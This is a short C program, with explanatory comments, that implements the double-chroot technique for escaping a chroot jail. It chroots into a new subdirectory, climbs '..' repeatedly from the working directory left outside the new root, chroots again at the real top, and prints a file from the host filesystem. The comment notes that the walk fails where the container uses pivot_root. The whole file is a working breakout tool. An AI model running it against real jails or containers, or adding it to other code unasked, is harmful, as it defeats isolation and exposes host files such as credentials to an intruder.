/* double-chroot FILE: leaves a chroot(2), and prints FILE as the host has it.
 *
 * Two facts of the kernel make it work, path_resolution(7):
 *   1. ".." stops at one place only: the root directory of the process that asks.
 *   2. chroot(2) moves the root. It does not move the working directory.
 * So: move the root below the place where we stand. We now stand outside of our root, ".." never
 * meets it on the way up, and the way up ends at the real top of the mount.
 *
 * Where the container's root is the top of its mount, there is nothing above: after pivot_root(2)
 * the same walk ends in the container. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char line[256];
	FILE *file;

	if (argc < 2 || chdir("/") < 0)
		return 2;
	mkdir("hole", 0755);
	if (chroot("hole") < 0) { /* the root is now /hole; we still stand in what was "/" */
		perror("chroot");
		return 1;
	}
	for (int i = 0; i < 100; i++) /* more often than any path is deep */
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0) { /* here is "/": the host's */
		perror("chroot");
		return 1;
	}
	file = fopen(argv[1], "r");
	if (!file) {
		printf("still inside: %s is not here\n", argv[1]);
		return 1;
	}
	while (fgets(line, sizeof line, file))
		fputs(line, stdout);
	return 0;
}
